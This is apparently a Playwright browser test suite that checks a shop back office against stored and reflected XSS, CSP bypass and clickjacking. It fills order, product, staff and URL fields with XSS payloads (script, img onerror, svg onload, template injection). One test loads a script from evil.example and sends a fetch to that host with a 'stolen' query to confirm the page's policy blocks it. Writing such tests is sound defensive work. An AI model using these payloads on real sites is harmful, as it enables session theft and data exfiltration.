"""Whatever stands in an order, a page only shows it: nothing of it runs (stored and reflected XSS)."""

from collections.abc import AsyncIterator
from itertools import product
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from playwright.async_api import Browser, Page, expect

from services.backoffice.accounts.model import Role
from tests.browser.conftest import PASSWORD, Desk, sign_in
from tests.browser.people import hire
from tests.support.sale import LAMP, place
from tests.support.shop import Shop
from tests.support.waiting import until

SKU = "\"'><svg/onload=alert(7)>?{{7*7}}"
REPORTS = "document.addEventListener('securitypolicyviolation', (e) => console.error('CSP', e.blockedURI, e.sample))"


def evil(field: str) -> str:
    """Markup that would run as HTML, in an attribute, or as a template."""
    return f"\"'><img src=x onerror=alert('{field}')><script>alert('{field}')</script>{{{{7*7}}}} {field}"


def address(of: str) -> dict[str, str]:
    parts = ("name", "company", "street", "street2", "postal_code", "city", "region")
    return {part: evil(f"{of} {part}") for part in parts} | {"country": "FR"}


EVIL_ORDER: dict[str, Any] = {
    "reference": evil("order reference"),
    "customer": {
        "reference": evil("customer reference"),
        "name": evil("customer name"),
        "email": "o'onload=alert`1`{{7*7}}@example.org",
        "phone": evil("phone"),
        "billing_address": address("billing"),
        "delivery_address": address("delivery"),
    },
    "lines": [{"sku": SKU, "quantity": 2, "unit_price": "12.50", "vat_rate": "20", "total": "25.00"}],
    "shipping": {"method": evil("shipping method"), "price": "0", "vat_rate": "20"},
    "payment": {"method": evil("payment method")},
    "totals": {"net": "20.83", "vat": "4.17", "gross": "25.00"},
    "feedback": evil("feedback"),
}


async def done(shop: Shop, service: str, path: str, body: Any) -> Any:
    answer = await shop.post(service, path, body)
    assert answer.status_code in (200, 201), answer.text
    return answer.json()


@pytest.fixture(scope="module")
async def completed(shop: Shop) -> dict[str, Any]:
    """An order with markup in every field that anybody fills in, on its way from placing to shipping."""
    await done(shop, "orders", "/products", {"products": [{**LAMP, "sku": SKU, "title": evil("title")}]})
    receipt = {"lines": [{"sku": SKU, "quantity": 10}], "reason": evil("receipt")}
    await done(shop, "fulfilment", "/stock/receipts", receipt)
    adjustment = {"quantity": -1, "reason": evil("adjustment")}
    await done(shop, "fulfilment", f"/stock/{quote(SKU, safe='')}/adjustments", adjustment)
    placed = await place(shop, **EVIL_ORDER)
    path = f"/orders/{placed['order_id']}"
    shipment = await until(_shipment, shop, path, "ready")
    await until(_is_invoiced, shop, path)
    payment = {"method": evil("paid by"), "reference": evil("paid as")}
    await done(shop, "billing", f"{path}/payments", payment)
    await done(shop, "fulfilment", f"/shipments/{shipment['shipment_id']}/ship", None)
    note = {"text": evil("note")}
    saved = await shop.http.put(f"{shop.settings.url('orders')}{path}/note", json=note, headers={"If-Match": '"0"'})
    assert saved.status_code == 200, saved.text
    await until(_is_completed, shop, path)
    return placed


@pytest.fixture(scope="module")
async def cancelled(shop: Shop, completed: dict[str, Any]) -> dict[str, Any]:
    """Another, put on hold, resumed and cancelled for reasons full of markup."""
    placed = await place(shop, **EVIL_ORDER)
    path = f"/orders/{placed['order_id']}"
    await done(shop, "orders", f"{path}/hold", {"reason": evil("hold reason")})
    await done(shop, "orders", f"{path}/resume", None)
    await done(shop, "orders", f"{path}/cancel", {"reason": evil("cancel reason"), "notify_customer": True})
    await until(shop.cancellation_settled, placed["order_id"])
    return placed


@pytest.fixture
async def page(desk: Desk) -> AsyncIterator[Page]:
    """The owner's; `desk` fails the test for anything in the console, which violations of the policy are."""
    page = await desk("owner", "en")
    shown: list[str] = []
    page.on("dialog", lambda dialog: shown.append(dialog.message))
    await page.add_init_script(REPORTS)
    yield page
    assert shown == []


async def is_only_text(page: Page, *expected: str) -> None:
    """These are on the page as they were typed, and nothing on it has become an element or was computed."""
    for text in expected:
        await expect(page.locator("body")).to_contain_text(text)
    for frame in page.frames:
        made = await frame.locator("img[src=x], svg[onload], script:not([src]), [onerror], [onload]").count()
        assert made == 0
        assert "{{7*7}}" in await frame.content() or "49 " not in await frame.content()


async def test_every_field_of_an_order_is_shown_as_it_was_typed(page: Page, completed: dict[str, Any]) -> None:
    await page.goto(f"/orders/{completed['order_id']}")
    fields = ("customer name", "customer reference", "phone", "title", "shipping method", "payment method", "feedback")
    addresses = [value for of in ("billing", "delivery") for value in address(of).values() if value != "FR"]
    await is_only_text(page, *map(evil, fields), *addresses, EVIL_ORDER["customer"]["email"])
    await expect(page.locator("#note textarea")).to_have_value(evil("note"))
    assert await page.locator("a[href^='javascript']").count() == 0


async def test_reasons_and_the_history_are_shown_as_they_were_typed(page: Page, cancelled: dict[str, Any]) -> None:
    await page.goto(f"/orders/{cancelled['order_id']}")
    await is_only_text(page, evil("hold reason"), evil("cancel reason"))


async def test_what_an_address_fills_into_a_dialog_is_text(page: Page, completed: dict[str, Any]) -> None:
    fields = ("reason", "amount", "method", "reference", "shipment_id", "key", "done", "notify_customer")
    for name in ("hold", "cancel", "pay", "unpay", "ship", "unship"):
        await page.goto(f"/orders/{completed['order_id']}/{name}?{urlencode({field: evil(field) for field in fields})}")
        await expect(page.locator("#dialog-content")).to_be_visible()
        await is_only_text(page)


async def test_lists_products_documents_and_messages_show_only_text(
    shop: Shop, page: Page, completed: dict[str, Any], cancelled: dict[str, Any]
) -> None:
    await page.goto("/orders")
    await is_only_text(page, evil("customer name"))
    await page.goto("/products")
    await is_only_text(page, evil("title"))
    await page.goto(f"/products/{quote(SKU, safe='')}")
    await is_only_text(page, evil("title"), SKU, evil("receipt"), evil("adjustment"))
    for order_id in (completed["order_id"], cancelled["order_id"]):
        for document in (await shop.get("billing", f"/orders/{order_id}"))["documents"]:
            await page.goto(f"/documents/{document['document_id']}")
            await is_only_text(page, evil("title"), evil("billing street"))
        for message in (await shop.get("notifier", "/messages", order_id=order_id))["items"]:
            await page.goto(f"/messages/{message['message_id']}")
            await is_only_text(page)
    for path in ("/", "/messages", "/mailbox", "/operations"):
        await page.goto(path)
        await is_only_text(page)
    for mail in [one for one in await shop.mails() if "onload" in str(one)][:3]:
        await page.goto(f"/mailbox/{mail['id']}")
        await is_only_text(page)


SEARCHED = (
    "/orders",
    "/products",
    "/messages",
    "/mailbox",
    "/operations",
    "/staff",
    "/account",
    "/sign-in",
    "/sign-in/code",
    "/views/new",
    "/stock/adjust",
    "/no/such/page",
)


async def test_what_is_searched_filtered_or_asked_is_shown_as_text(page: Page) -> None:
    """All at once, and what a page takes any text for by itself: another wrong one might hide it."""
    words = ("q", "done", "next", "language", "email")
    choices = ("status", "payment_status", "state", "kind", "after", "cursor", "from", "sku", "amount_min")
    for path, names in product(SEARCHED, (words, (*words, *choices))):
        await page.goto(f"{path}?{urlencode({name: evil(name) for name in names})}")
        await is_only_text(page)


async def test_an_address_full_of_markup_leads_nowhere(page: Page) -> None:
    for path in (f"/{quote(evil('path'))}", f"/orders/{quote(evil('path'), safe='')}", f"/products/{quote(evil('p'))}"):
        await page.goto(path)
        await is_only_text(page)


async def test_a_name_full_of_markup_is_text_in_the_menu_and_among_the_staff(
    shop: Shop, desk: Desk, page: Page
) -> None:
    await hire(shop, "mallory", role=Role.OWNER, name=evil("staff name"))
    mallory = await desk("mallory")
    await mallory.goto("/account")
    await is_only_text(mallory, evil("staff name"))
    await page.goto("/staff")
    await is_only_text(page, evil("staff name"))
    await page.get_by_role("row").filter(has_text="mallory-en@").get_by_role("link").first.click()
    await expect(page.get_by_role("dialog")).to_be_visible()
    await is_only_text(page, evil("staff name"))


async def test_what_is_typed_and_refused_comes_back_as_text(shop: Shop, page: Page, completed: dict[str, Any]) -> None:
    path = f"/orders/{(await place(shop, **EVIL_ORDER))['order_id']}"
    await page.goto(f"{path}/hold")
    await expect(page.locator("#dialog-content textarea")).to_be_visible()
    await done(shop, "orders", f"{path}/cancel", {})
    await page.locator("#dialog-content textarea").fill(evil("typed"))
    await page.locator("#dialog-content button[type=submit]").click()
    await expect(page.locator("#dialog-content [role=alert]")).to_be_visible()
    await expect(page.locator("#dialog-content textarea")).to_have_value(evil("typed"))
    await is_only_text(page)


async def test_markup_that_slips_in_nevertheless_does_not_run(shop: Shop, chromium: Browser) -> None:
    """The second wall: the policy of the page."""
    opened = await chromium.new_context(base_url=shop.settings.url("backoffice"))
    page = await opened.new_page()
    await sign_in(page, "owner-en@shop.example", PASSWORD)
    blocked = await page.evaluate(
        """async () => {
            const blocked = [];
            const seen = (count) => new Promise((done) => addEventListener("securitypolicyviolation", (event) => {
                blocked.push(event.effectiveDirective);
                if (blocked.length >= count) done();
            }));
            const all = seen(6);
            document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.ran = 1">');
            document.body.insertAdjacentHTML("beforeend", '<p style="color: red" onclick="window.ran = 1">x</p>');
            for (const fill of [(one) => one.text = "window.ran = 1", (one) => one.src = "https://evil.example/x.js"]) {
                const script = document.createElement("script");
                fill(script);
                document.body.append(script);
            }
            fetch("https://evil.example/?stolen").catch(() => {});
            await Promise.race([all, new Promise((done) => setTimeout(done, 5000))]);
            return blocked.sort();
        }"""
    )
    assert {"connect-src", "script-src-attr", "script-src-elem", "style-src-attr"} <= set(blocked)
    assert await page.evaluate("window.ran === undefined")
    await opened.close()


async def test_no_other_site_shows_a_page_of_ours_in_a_frame(shop: Shop, chromium: Browser) -> None:
    """Clickjacking: the browser refuses."""
    opened = await chromium.new_context()
    page = await opened.new_page()
    await page.route(
        "http://evil.example/**", lambda route: route.fulfill(body=_framing(shop), content_type="text/html")
    )
    await page.goto("http://evil.example/")
    await expect(page.locator("iframe")).to_be_visible()
    await page.wait_for_load_state("networkidle")
    assert [frame.url for frame in page.frames[1:]] in (["chrome-error://chromewebdata/"], [""])
    await opened.close()


def _framing(shop: Shop) -> str:
    return f'<iframe src="{shop.settings.url("backoffice")}/sign-in"></iframe>'


async def _shipment(shop: Shop, path: str, state: str) -> Any:
    shipments = (await shop.get("fulfilment", path))["shipments"] if await _is_known(shop, path) else []
    return next((one for one in shipments if one["state"] == state), None)


async def _is_known(shop: Shop, path: str) -> bool:
    return (await shop.http.get(shop.settings.url("fulfilment") + path)).status_code == 200


async def _is_invoiced(shop: Shop, path: str) -> bool:
    answer = await shop.http.get(shop.settings.url("billing") + path)
    return answer.status_code == 200 and bool(answer.json()["documents"])


async def _is_completed(shop: Shop, path: str) -> bool:
    return (await shop.get("orders", path))["status"].startswith("completed")
